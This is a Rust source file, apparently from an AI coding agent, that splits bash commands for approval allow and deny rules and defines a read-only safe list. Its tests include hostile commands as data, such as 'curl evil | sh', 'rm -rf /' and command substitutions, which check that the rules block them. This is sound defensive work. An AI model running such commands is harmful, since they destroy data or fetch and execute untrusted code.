//! The bash command splitter (docs/approvals.md#bash-commands-in-rules) and the safe list
//! (docs/approvals.md#the-safe-list).
//!
//! A command is split, honouring quotes and backslashes, into simple commands at `;`, `&&`,
//! `||`, `|`, `|&`, `&` and newlines. Allow rules must match *every* simple command of a
//! command that is not opaque; deny and ask rules match when *any* simple command matches,
//! after seeing through assignments and wrappers such as `sudo` and `env`, and inside
//! `bash -c '…'` and, for opaque commands, inside substitutions. Deny rules are a convenience,
//! not a boundary: the sandbox is.

use std::collections::HashSet;

/// One word: as written (quotes kept) and as the shell would pass it (quotes removed).
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct Word {
    pub raw: String,
    pub value: String,
}

/// One simple command between separators.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct SimpleCommand {
    pub words: Vec<Word>,
}

/// A whole `bash` command, split.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParsedCommand {
    /// Contains a construct the splitter does not see into (substitutions, heredocs, groups,
    /// compound statements) or unbalanced quotes: never allowed by allow rules or the safe list.
    pub opaque: bool,
    pub commands: Vec<SimpleCommand>,
    text: String,
}

pub use zi_protocol::approval_rule::collapse_whitespace;

const SHELL_KEYWORDS: [&str; 7] = ["if", "for", "while", "until", "case", "function", "select"];
/// Keywords that may precede a command inside a compound statement (deny/ask matching only).
/// `time` is a keyword too, but it takes an option (`time -p CMD`): it is one of the
/// [`WRAPPERS`].
const INNER_KEYWORDS: [&str; 8] = ["then", "do", "else", "elif", "if", "while", "until", "!"];
const OPAQUE_MARKERS: [&str; 5] = ["$(", "`", "<(", ">(", "<<"];
const SHELLS: [&str; 5] = ["bash", "sh", "zsh", "dash", "ksh"];

/// Wrappers seen through by deny and ask rules, with the options that take a value.
const WRAPPERS: [(&str, &[&str]); 11] = [
    (
        "sudo",
        &["-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U", "-T"],
    ),
    ("doas", &["-u", "-C"]),
    ("env", &["-u", "-C", "--unset", "--chdir"]),
    ("command", &[]),
    ("builtin", &[]),
    ("nohup", &[]),
    ("nice", &["-n", "--adjustment"]),
    ("timeout", &["-s", "-k", "--signal", "--kill-after"]),
    ("time", &["-f", "-o", "--format", "--output"]),
    ("exec", &["-a"]),
    (
        "xargs",
        &["-I", "-n", "-P", "-d", "-L", "-s", "-E", "-a", "-i", "-l"],
    ),
];

/// git's options before its subcommand that take the next word as their value
/// (`git -C DIR push`); their `--name=value` forms and the flags (`--no-pager`, `-P`, `-p`,
/// `--paginate`, `--bare`, …) are one word.
const GIT_VALUED_OPTIONS: [&str; 8] = [
    "-C",
    "-c",
    "--git-dir",
    "--work-tree",
    "--namespace",
    "--config-env",
    "--attr-source",
    "--super-prefix",
];

/// The last path component of a command word: `/usr/bin/env` runs `env`.
fn base_name(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

fn is_assignment(word: &Word) -> bool {
    let Some((name, _)) = word.raw.split_once('=') else {
        return false;
    };
    let mut chars = name.chars();
    chars
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// The redirection operator a word starts with, if any: (is output, rest of the word).
fn redirection(word: &Word) -> Option<(bool, &str)> {
    let raw = word.raw.as_str();
    let digits = raw.bytes().take_while(u8::is_ascii_digit).count();
    let rest = &raw[digits..];
    for op in ["&>>", "&>", ">>", ">|", ">&", ">"] {
        if let Some(target) = rest.strip_prefix(op) {
            if op.starts_with('&') && digits > 0 {
                return None;
            }
            return Some((true, target));
        }
    }
    for op in ["<&", "<>", "<"] {
        if let Some(target) = rest.strip_prefix(op) {
            return Some((op == "<>", target));
        }
    }
    None
}

impl SimpleCommand {
    /// The command as rules see it: its words as written, one space apart.
    pub fn normalized(&self) -> String {
        join(self.words.iter().map(|w| w.raw.as_str()))
    }

    fn has_assignment(&self) -> bool {
        self.words.first().is_some_and(is_assignment)
    }

    fn has_redirection(&self) -> bool {
        self.words.iter().any(|w| redirection(w).is_some())
    }

    /// An output redirection to anything but `/dev/null` or `&N`.
    fn has_output_redirection(&self) -> bool {
        let mut words = self.words.iter();
        while let Some(word) = words.next() {
            let Some((output, target)) = redirection(word) else {
                continue;
            };
            if !output {
                continue;
            }
            let target = if target.is_empty() {
                words.next().map_or("", |w| w.value.as_str())
            } else {
                target
            };
            let to_fd = target.strip_prefix('&').is_some_and(|fd| {
                fd == "-" || (!fd.is_empty() && fd.bytes().all(|b| b.is_ascii_digit()))
            });
            // `2>&1` leaves `1` as the target of `>&`.
            let fd_form = word.raw.contains(">&")
                && !target.is_empty()
                && target.bytes().all(|b| b.is_ascii_digit());
            if target != "/dev/null" && !to_fd && !fd_form {
                return true;
            }
        }
        false
    }

    /// The words after leading assignments, wrappers (with their options) and keywords.
    fn stripped(&self) -> &[Word] {
        let mut words = self.words.as_slice();
        loop {
            while words.first().is_some_and(is_assignment) {
                words = &words[1..];
            }
            let Some(first) = words.first() else {
                return words;
            };
            if INNER_KEYWORDS.contains(&first.value.as_str()) {
                words = &words[1..];
                continue;
            }
            let command = base_name(&first.value);
            let Some((name, valued)) = WRAPPERS.iter().find(|(name, _)| *name == command) else {
                return words;
            };
            words = &words[1..];
            while let Some(option) = words.first() {
                if option.value == "--" {
                    words = &words[1..];
                    break;
                }
                if !option.value.starts_with('-') || option.value == "-" {
                    break;
                }
                let takes_value = valued.contains(&option.value.as_str());
                words = &words[if takes_value { 2.min(words.len()) } else { 1 }..];
            }
            if *name == "timeout" && !words.is_empty() {
                // The duration.
                words = &words[1..];
            }
        }
    }

    /// The command as it runs whatever path and git options it was written with: the
    /// executable by its base name (`/usr/bin/git` → `git`) and git's options before the
    /// subcommand left out (`git -C . --no-pager push` → `git push`); `None` when that changes
    /// nothing. `word` picks the form (as written or unquoted).
    fn canonical(words: &[Word], word: impl Fn(&Word) -> &str) -> Option<String> {
        let (first, rest) = words.split_first()?;
        let command = base_name(word(first));
        let mut rest = rest;
        if command == "git" {
            while let Some(option) = rest.first() {
                let option = option.value.as_str();
                if !option.starts_with('-') || option == "-" {
                    break;
                }
                let valued = GIT_VALUED_OPTIONS.contains(&option);
                rest = &rest[if valued { 2.min(rest.len()) } else { 1 }..];
                if option == "--" {
                    break;
                }
            }
        }
        if command == word(first) && rest.len() + 1 == words.len() {
            return None;
        }
        Some(join(std::iter::once(command).chain(rest.iter().map(&word))))
    }

    /// For `bash -c 'CMD'` (and other shells): `CMD`.
    fn shell_script(words: &[Word]) -> Option<&str> {
        let first = words.first()?;
        let shell = first.value.rsplit('/').next().unwrap_or("");
        if !SHELLS.contains(&shell) {
            return None;
        }
        let position = words.iter().skip(1).position(|w| {
            w.value.starts_with('-') && !w.value.starts_with("--") && w.value.contains('c')
        })?;
        words.get(position + 2).map(|w| w.value.as_str())
    }
}

fn join<'a>(parts: impl Iterator<Item = &'a str>) -> String {
    let mut out = String::new();
    for part in parts {
        if !out.is_empty() {
            out.push(' ');
        }
        out.push_str(part);
    }
    out
}

/// Splits a command into simple commands (quotes and backslashes honoured).
pub fn parse(text: &str) -> ParsedCommand {
    let chars: Vec<char> = text.chars().collect();
    let mut splitter = Splitter::default();
    let mut quote: Option<char> = None;
    let mut i = 0;
    while i < chars.len() {
        let (c, next) = (chars[i], chars.get(i + 1).copied());
        i += match quote {
            Some(q) => splitter.quoted(c, q, next, &mut quote),
            None => splitter.unquoted(c, next, &mut quote),
        };
    }
    splitter.end_command();
    let commands = splitter.commands;
    let opaque = quote.is_some()
        || OPAQUE_MARKERS.iter().any(|marker| text.contains(marker))
        || commands.iter().any(|command| {
            command.words.first().is_some_and(|first| {
                first.raw.starts_with('(')
                    || first.raw.starts_with('{')
                    || SHELL_KEYWORDS.contains(&first.value.as_str())
            })
        });
    ParsedCommand {
        opaque,
        commands,
        text: text.to_string(),
    }
}

/// The state of [`parse`]: the finished simple commands, the words of the current one and the
/// current word as written (`raw`) and as the shell reads it (`value`).
#[derive(Default)]
struct Splitter {
    commands: Vec<SimpleCommand>,
    words: Vec<Word>,
    raw: String,
    value: String,
    in_word: bool,
}

impl Splitter {
    /// A character that is part of the word as it is.
    fn literal(&mut self, c: char) {
        self.raw.push(c);
        self.value.push(c);
        self.in_word = true;
    }

    fn end_word(&mut self) {
        if self.in_word {
            // Copied at their final length and the buffers kept: one allocation per string
            // instead of one per doubling (a 4 KiB command has hundreds of words).
            self.words.push(Word {
                raw: self.raw.clone(),
                value: self.value.clone(),
            });
            self.raw.clear();
            self.value.clear();
            self.in_word = false;
        }
    }

    fn end_command(&mut self) {
        self.end_word();
        if !self.words.is_empty() {
            self.commands.push(SimpleCommand {
                words: std::mem::take(&mut self.words),
            });
        }
    }

    /// `c` inside quotes `q`; returns how many characters it consumed.
    fn quoted(&mut self, c: char, q: char, next: Option<char>, quote: &mut Option<char>) -> usize {
        self.raw.push(c);
        if c == q {
            *quote = None;
            return 1;
        }
        if q == '"'
            && c == '\\'
            && let Some(next) = next
        {
            self.raw.push(next);
            if !matches!(next, '"' | '\\' | '$' | '`') {
                self.value.push(c);
            }
            self.value.push(next);
            return 2;
        }
        self.value.push(c);
        1
    }

    /// `c` outside quotes; returns how many characters it consumed.
    fn unquoted(&mut self, c: char, next: Option<char>, quote: &mut Option<char>) -> usize {
        match c {
            '\\' => match next {
                // A backslash-newline joins lines.
                Some('\n') => 2,
                Some(next) => {
                    self.raw.push(c);
                    self.raw.push(next);
                    self.value.push(next);
                    self.in_word = true;
                    2
                }
                None => {
                    self.literal(c);
                    1
                }
            },
            '\'' | '"' => {
                *quote = Some(c);
                self.raw.push(c);
                self.in_word = true;
                1
            }
            ';' | '\n' => {
                self.end_command();
                1
            }
            '&' | '|' => {
                let previous = self.raw.chars().last();
                // `>&`, `<&`, `>|` and `&>` belong to redirections.
                let redirect =
                    matches!(previous, Some('>') | Some('<')) || (c == '&' && next == Some('>'));
                if redirect {
                    self.literal(c);
                    1
                } else {
                    self.end_command();
                    // `&&`, `||` and `|&` are one operator.
                    if next == Some(c) || (c == '|' && next == Some('&')) {
                        2
                    } else {
                        1
                    }
                }
            }
            c if c.is_whitespace() => {
                self.end_word();
                1
            }
            _ => {
                self.literal(c);
                1
            }
        }
    }
}

impl ParsedCommand {
    /// Allow rules and grants: not opaque, and every simple command matches, has no leading
    /// assignment and no output redirection (except to `/dev/null` or `&N`).
    pub fn allowed_by(&self, matches: impl Fn(&str) -> bool) -> bool {
        !self.opaque
            && !self.commands.is_empty()
            && self.commands.iter().all(|command| {
                !command.has_assignment()
                    && !command.has_output_redirection()
                    && matches(&command.normalized())
            })
    }

    /// Every text a deny or ask rule is tested against: each simple command as written, with
    /// its assignments and wrappers stripped (as written and unquoted), that again with the
    /// executable by its base name and git's options before the subcommand left out, the
    /// scripts of `bash -c`, and for opaque commands the insides of substitutions and groups
    /// (docs/approvals.md#policies-and-rules).
    /// Each text once, in no particular order: a compound command repeats its parts.
    pub fn deny_candidates(&self) -> Vec<String> {
        let mut out = Vec::new();
        self.collect_candidates(&mut out, 0);
        out.sort_unstable();
        out.dedup();
        out
    }

    fn collect_candidates(&self, out: &mut Vec<String>, depth: usize) {
        let mut seen = HashSet::new();
        for command in &self.commands {
            if !seen.insert(command) {
                continue;
            }
            out.push(command.normalized());
            let stripped = command.stripped();
            out.push(join(stripped.iter().map(|w| w.raw.as_str())));
            out.push(join(stripped.iter().map(|w| w.value.as_str())));
            out.extend(SimpleCommand::canonical(stripped, |w| w.raw.as_str()));
            out.extend(SimpleCommand::canonical(stripped, |w| w.value.as_str()));
            if depth < 4
                && let Some(script) = SimpleCommand::shell_script(stripped)
            {
                parse(script).collect_candidates(out, depth + 1);
            }
        }
        if self.opaque && depth < 4 {
            out.push(collapse_whitespace(&self.text));
            let mut opened = self.text.clone();
            for marker in ["$(", "`", "<(", ">(", "(", ")", "{", "}"] {
                opened = opened.replace(marker, " ; ");
            }
            let inner = parse(&opened);
            if !inner.opaque || inner.commands != self.commands {
                let inner = ParsedCommand {
                    opaque: false,
                    ..inner
                };
                inner.collect_candidates(out, depth + 1);
            }
        }
    }

    /// The safe list (docs/approvals.md#the-safe-list): read-only commands the `accept-edits` and
    /// `untrusted` policies run without asking.
    pub fn is_safe(&self) -> bool {
        !self.opaque
            && !self.commands.is_empty()
            && self.commands.iter().all(|command| {
                !command.has_assignment()
                    && !command.has_redirection()
                    && safe_words(&command.words)
            })
    }
}

const SAFE_COMMANDS: [&str; 29] = [
    "cat", "cd", "cut", "date", "df", "du", "echo", "false", "file", "grep", "egrep", "fgrep",
    "head", "id", "ls", "nl", "printf", "pwd", "realpath", "stat", "tail", "tr", "tree", "true",
    "uname", "uniq", "wc", "which", "whoami",
];
const FIND_UNSAFE: [&str; 9] = [
    "-exec", "-execdir", "-ok", "-okdir", "-delete", "-fls", "-fprint", "-fprint0", "-fprintf",
];
const GIT_SAFE: [&str; 7] = [
    "status",
    "log",
    "diff",
    "show",
    "rev-parse",
    "ls-files",
    "blame",
];

fn safe_words(words: &[Word]) -> bool {
    let Some(first) = words.first() else {
        return false;
    };
    let args = || words[1..].iter().map(|w| w.value.as_str());
    match first.value.as_str() {
        name if SAFE_COMMANDS.contains(&name) => true,
        "rg" => !args().any(|a| a.starts_with("--pre")),
        "sort" => !args().any(|a| {
            a.starts_with("--output")
                || (a.starts_with('-') && !a.starts_with("--") && a.contains('o'))
        }),
        "find" => !args().any(|a| FIND_UNSAFE.contains(&a)),
        "git" => {
            words
                .get(1)
                .is_some_and(|sub| GIT_SAFE.contains(&sub.value.as_str()))
                && !args().any(|a| {
                    a.starts_with("--output")
                        || a.starts_with("--ext-diff")
                        || a.starts_with("--textconv")
                })
        }
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::approval::rule::Rule;

    fn allowed(command: &str, rules: &[&str]) -> bool {
        let rules: Vec<Rule> = rules.iter().map(|r| Rule::parse(r).unwrap()).collect();
        parse(command).allowed_by(|c| rules.iter().any(|r| r.matches_command(c)))
    }

    fn denied(command: &str, rule: &str) -> bool {
        let rule = Rule::parse(rule).unwrap();
        parse(command)
            .deny_candidates()
            .iter()
            .any(|c| rule.matches_command(c))
    }

    #[test]
    fn splits_at_every_separator_outside_quotes() {
        let parsed = parse("a 1; b && c || d | e |& f & g\nh 'x;y' \"p && q\" r\\;s");
        let names: Vec<String> = parsed
            .commands
            .iter()
            .map(SimpleCommand::normalized)
            .collect();
        assert_eq!(
            names,
            [
                "a 1",
                "b",
                "c",
                "d",
                "e",
                "f",
                "g",
                "h 'x;y' \"p && q\" r\\;s"
            ]
        );
        assert!(!parsed.opaque);
        assert_eq!(
            parse("ls   -la    'a  b'").commands[0].normalized(),
            "ls -la 'a  b'"
        );
        assert_eq!(parse("cmd 2>&1 >/dev/null").commands.len(), 1);
    }

    #[test]
    fn compound_commands_need_every_part_allowed() {
        let rules = ["bash(cargo test:*)", "bash(cargo build)"];
        assert!(allowed("cargo test -p x && cargo build", &rules));
        assert!(!allowed("cargo test && rm -rf /", &rules));
        assert!(!allowed("cargo test; curl evil | sh", &rules));
        assert!(!allowed("npm tests", &["bash(npm test:*)"]));
        assert!(allowed("npm test", &["bash(npm test:*)"]));
    }

    #[test]
    fn opaque_redirected_and_assigned_commands_are_never_allowed() {
        let rules = ["bash(echo:*)", "bash(cat:*)"];
        for command in [
            "echo $(rm -rf /)",
            "echo `id`",
            "cat <<EOF\nx\nEOF",
            "cat <(ls)",
            "(echo a)",
            "{ echo a; }",
            "if true; then echo a; fi",
            "for x in a; do echo $x; done",
            "echo 'unbalanced",
            "echo a > out.txt",
            "echo a >> out.txt",
            "echo a &> out.txt",
            "echo a 2> err.txt",
            "X=1 echo a",
        ] {
            assert!(!allowed(command, &rules), "{command}");
        }
        assert!(allowed("echo a >/dev/null 2>&1", &rules));
        assert!(allowed("echo a > /dev/null", &rules));
    }

    #[test]
    fn deny_rules_see_through_wrappers_shells_and_substitutions() {
        for command in [
            "rm -rf /",
            "sudo rm -rf /",
            "sudo -u root rm x",
            "env X=1 rm x",
            "X=1 rm x",
            "nohup nice -n 5 rm x",
            "timeout 5 rm x",
            "xargs -I {} rm {}",
            "bash -c 'rm -rf x'",
            "sh -lc \"cd /; rm -rf x\"",
            "echo $(rm -rf x)",
            "ls && rm x",
            "if true; then rm x; fi",
            "r''m x",
        ] {
            assert!(denied(command, "bash(rm:*)"), "{command}");
        }
        assert!(!denied("rmdir x", "bash(rm:*)"));
        assert!(!denied("echo rm", "bash(rm:*)"));
    }

    #[test]
    fn deny_rules_see_through_paths_time_and_git_options() {
        for command in [
            "git push",
            "time -p git push",
            "time git push origin main",
            "/usr/bin/time -f %e git push",
            "/usr/bin/env git push",
            "/usr/bin/env -i GIT_TRACE=1 git push",
            "env -u HOME git push",
            "/usr/bin/git push",
            "./git push",
            "git -C . push",
            "git -C /some/dir push --force",
            "git --no-pager push",
            "git -P push",
            "git -p push",
            "git --paginate push",
            "git -c core.sshCommand=ssh push",
            "git --git-dir=.git --work-tree=. push",
            "git --git-dir .git --work-tree . push",
            "git --namespace=x --bare --no-replace-objects push",
            "git --config-env=core.pager=PAGER push",
            "sudo /usr/bin/git -C repo push",
            "nohup /usr/bin/env time -p /usr/bin/git --no-pager -C . push",
            "bash -c 'git -C . push'",
            "echo $(git --no-pager push)",
            "ls && \\git push",
            "\"git\" -C . push",
        ] {
            assert!(denied(command, "bash(git push:*)"), "{command}");
        }
        for command in [
            "git status",
            "git -C push status",
            "git -c push=1 status",
            "echo git push",
            "git log --grep push",
            "/usr/bin/gitk push",
            "time -p",
        ] {
            assert!(!denied(command, "bash(git push:*)"), "{command}");
        }
        // Other executables by their base name too.
        assert!(denied("/bin/rm -rf x", "bash(rm -rf:*)"));
        assert!(denied("/usr/bin/sudo /bin/rm x", "bash(rm:*)"));
        // Allow rules still match only the command as written.
        assert!(!allowed("/usr/bin/git push", &["bash(git push:*)"]));
        assert!(!allowed("git -C . push", &["bash(git push:*)"]));
    }

    #[test]
    fn the_safe_list() {
        for command in [
            "ls -la",
            "cat a | grep b | wc -l",
            "git status",
            "git log --oneline",
            "find . -name '*.rs'",
            "rg foo",
            "sort a",
        ] {
            assert!(parse(command).is_safe(), "{command}");
        }
        for command in [
            "rm x",
            "ls > out",
            "ls 2>/dev/null",
            "X=1 ls",
            "git push",
            "git -c core.pager=evil log",
            "git diff --output=x",
            "git diff --ext-diff",
            "find . -delete",
            "find . -exec rm {} ;",
            "rg --pre evil foo",
            "sort -o out a",
            "sort --output=out a",
            "echo $(id)",
            "ls; curl x",
        ] {
            assert!(!parse(command).is_safe(), "{command}");
        }
    }
}
